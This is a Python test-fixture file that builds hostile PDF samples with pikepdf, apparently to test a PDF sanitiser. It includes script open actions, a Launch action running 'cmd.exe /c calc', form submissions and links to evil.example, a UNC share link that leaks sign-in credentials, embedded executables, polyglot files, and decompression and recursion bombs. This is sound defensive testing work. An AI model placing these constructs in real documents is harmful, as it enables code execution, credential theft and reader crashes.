"""PDFs that act, carry, hide or break."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import papers
from tests.files import programs
from tests.files.hostile import hostile, zip_of

ALERT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def on_opening(action: pikepdf.Object) -> bytes:
    return papers.pdf_with(OpenAction=action)


def with_link(action: pikepdf.Object, **more: object) -> bytes:
    document = papers.blank()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action, **more)
    document.pages[0].Annots = Array([document.make_indirect(link)])
    return papers.saved(document)


# --- It acts -------------------------------------------------------------------------------------------------------


@hostile("active")
def script_when_it_opens() -> bytes:
    return on_opening(ALERT)


@hostile("active")
def script_in_a_stream() -> bytes:
    document = papers.blank()
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))
    return papers.saved(document)


@hostile("active")
def script_by_name() -> bytes:
    return papers.pdf_with(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), ALERT]))))


@hostile("active")
def script_when_a_page_is_turned() -> bytes:
    document = papers.blank()
    document.pages[0].obj.AA = Dictionary(O=ALERT)
    return papers.saved(document)


@hostile("active")
def script_deep_in_a_packed_object() -> bytes:
    document = papers.blank()
    chain = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=Array([Dictionary(S=Name.Named, N=Name.NextPage, Next=ALERT)]))
    document.pages[0].Annots = document.make_indirect(
        Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=chain)])
    )
    return papers.saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@hostile("active")
def script_spelt_in_numbers() -> bytes:
    """The same name with its letters as hexadecimal numbers."""
    return on_opening(ALERT).replace(b"/JavaScript", b"/J#61v#61Script")


@hostile("active")
def script_in_a_field() -> bytes:
    document = papers.blank()
    field = document.make_indirect(Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=ALERT)))
    document.Root.AcroForm = Dictionary(Fields=Array([field]))
    return papers.saved(document)


@hostile("active")
def script_of_a_film() -> bytes:
    return with_link(Dictionary(S=Name.Rendition, JS=String("app.alert(1)")))


@hostile("active")
def script_of_a_model_in_space() -> bytes:
    document = papers.blank()
    model = document.make_stream(b"PRC", Type=Name("/3D"), Subtype=Name.PRC, OnInstantiate=document.make_stream(b"runtime.x()"))
    note = Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([0, 0, 9, 9]))
    note["/3DD"] = model
    document.pages[0].Annots = Array([note])
    return papers.saved(document)


@hostile("active")
def program_that_starts() -> bytes:
    return on_opening(Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))


@hostile("active")
def form_that_sends_itself() -> bytes:
    return with_link(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/"))))


@hostile("active")
def form_that_fetches_data() -> bytes:
    return with_link(Dictionary(S=Name.ImportData, F=String("data.fdf")))


@hostile("active")
def page_that_opens_an_address() -> bytes:
    return on_opening(Dictionary(S=Name.URI, URI=String("https://evil.example/")))


@hostile("active")
def link_with_a_script() -> bytes:
    return with_link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


@hostile("active")
def link_to_a_share_on_the_network() -> bytes:
    """Opening the file asks another machine for a document, and hands it the reader's sign-in."""
    document = papers.blank()
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoToR, F=String(r"\\evil.example\a.pdf"), D=Array([0, Name.Fit])))
    return papers.saved(document)


@hostile("active")
def link_into_an_attached_document() -> bytes:
    return with_link(Dictionary(S=Name.GoToE, F=String("https://evil.example/a.pdf"), D=Array([0, Name.Fit])))


@hostile("active")
def form_of_another_kind() -> bytes:
    return papers.pdf_with(AcroForm=Dictionary(Fields=Array(), XFA=Array([String("template"), String("<template/>")])))


@hostile("active")
def rich_medium() -> bytes:
    document = papers.blank()
    document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])
    return papers.saved(document)


@hostile("remote")
def page_drawn_from_an_address() -> bytes:
    """A stream whose content lies elsewhere."""
    document = papers.blank()
    outside = document.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("https://evil.example/page")))
    document.pages[0].obj.Contents = outside
    return papers.saved(document)


# --- It carries ----------------------------------------------------------------------------------------------------


@hostile("embedded")
def attached_program() -> bytes:
    document = papers.blank()
    document.attachments["gave.exe"] = b"MZ"
    return papers.saved(document)


@hostile("embedded")
def paper_clip_on_the_page() -> bytes:
    document = papers.blank()
    inside = document.make_stream(b"MZ")
    clip = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=Dictionary(F=String("a.exe"), EF=Dictionary(F=inside))
    )
    document.pages[0].Annots = Array([clip])
    return papers.saved(document)


@hostile("embedded")
def portfolio() -> bytes:
    document = papers.blank()
    document.attachments["cv.pdf"] = papers.pdf()
    document.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    return papers.saved(document)


# --- It is locked --------------------------------------------------------------------------------------------------


@hostile("encrypted")
def pdf_with_a_password() -> bytes:
    return papers.locked_pdf()


@hostile("encrypted")
def pdf_with_rights_taken_away() -> bytes:
    """It opens without a password, but may not be printed or taken apart."""
    document = papers.blank()
    return papers.saved(document, encryption=pikepdf.Encryption(owner="ejer", user="", allow=pikepdf.Permissions(extract=False)))


@hostile("encrypted")
def pdf_with_an_old_lock() -> bytes:
    return papers.saved(papers.blank(), encryption=pikepdf.Encryption(owner="ejer", user="bruger", R=3, aes=False, metadata=False))


# --- It is two things ----------------------------------------------------------------------------------------------


@hostile("text")
def web_page_before_the_pdf() -> bytes:
    return b"<html><script>alert(1)</script>" + papers.pdf()


@hostile("two")
def web_page_inside_the_head() -> bytes:
    head, rest = programs.fpdf().split(b"\n", 1)
    return head + b"\n%<html><script>alert(1)</script></html>\n" + rest


@hostile("two")
def web_page_behind_the_pdf() -> bytes:
    return papers.pdf() + b"\n<script>alert(1)</script>\n"


@hostile("two")
def archive_behind_the_pdf() -> bytes:
    return papers.pdf() + zip_of({"a.js": b"alert(1)"})


@hostile("two")
def archive_behind_the_pdf_that_says_it_ends() -> bytes:
    """The archive's last bytes are those of a PDF."""
    out = io.BytesIO(papers.pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("a.js", "alert(1)")
        archive.comment = b"\n%%EOF\n"
    return out.getvalue()


@hostile("two")
def program_behind_the_pdf() -> bytes:
    return papers.pdf() + b"MZ" + bytes(range(1, 200))


# --- It is broken, or breaks what reads it -------------------------------------------------------------------------


@hostile("damaged")
def head_of_a_pdf() -> bytes:
    return b"%PDF-1.7\n% no more than this"


@hostile("damaged")
def half_a_pdf() -> bytes:
    whole = programs.fpdf()
    return whole[: len(whole) // 2]


@hostile("damaged")
def pdf_without_its_last_line() -> bytes:
    return papers.pdf()[:-200]


@hostile("damaged")
def first_half_of_a_pdf_for_the_web() -> bytes:
    """It has an end near its beginning."""
    with pikepdf.open(io.BytesIO(programs.fpdf(pages=20))) as document:
        whole = papers.saved(document, linearize=True)
    return whole[: len(whole) * 2 // 3]


@hostile("damaged")
def noise_between_head_and_end() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(128, 256)) * 30 + b"\n%%EOF\n"


@hostile("damaged")
def page_whose_content_is_noise() -> bytes:
    document = papers.blank()
    document.pages[0].obj.Contents = document.make_stream(b"\x78\x9cxxxxxxxxxxxxxxx" * 20, Filter=Name.FlateDecode)
    return papers.saved(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@hostile("no_pages")
def pdf_without_pages() -> bytes:
    return papers.saved(pikepdf.new())


@hostile("damaged")
def pages_in_a_ring() -> bytes:
    root = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    ring = b"2 0 obj<</Type/Pages/Count 9/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Pages/Count 9/Kids[2 0 R]>>endobj\n"
    return b"%PDF-1.4\n" + root + ring + b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n"


@hostile("too_much")
def page_that_unpacks_to_a_gigabyte() -> bytes:
    document = papers.blank()
    pack = zlib.compressobj(9)
    packed = b"".join(pack.compress(b" " * (1 << 20)) for _ in range(1200)) + pack.flush()
    document.pages[0].obj.Contents = document.make_stream(zlib.compress(packed, 9), Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return papers.saved(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@hostile("too_much")
def picture_of_ten_thousand_million_points() -> bytes:
    document = papers.blank()
    size = {"Width": 100_000, "Height": 100_000, "BitsPerComponent": 8, "ColorSpace": Name.DeviceRGB}
    picture = document.make_stream(zlib.compress(bytes(1000)), Type=Name.XObject, Subtype=Name.Image, Filter=Name.FlateDecode, **size)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(P=picture))
    document.pages[0].obj.Contents = document.make_stream(b"q 500 0 0 500 0 0 cm /P Do Q")
    return papers.saved(document, compress_streams=False)


@hostile("too_much")
def drawing_that_repeats_itself_a_million_times() -> bytes:
    """Each of eight drawings draws the next one ten times."""
    document = papers.blank()
    inner = document.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 900]))
    for _level in range(8):
        inner = document.make_stream(
            b"/X Do " * 10,
            Type=Name.XObject,
            Subtype=Name.Form,
            BBox=Array([0, 0, 600, 900]),
            Resources=Dictionary(XObject=Dictionary(X=inner)),
        )
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=inner))
    document.pages[0].obj.Contents = document.make_stream(b"/X Do")
    return papers.saved(document)
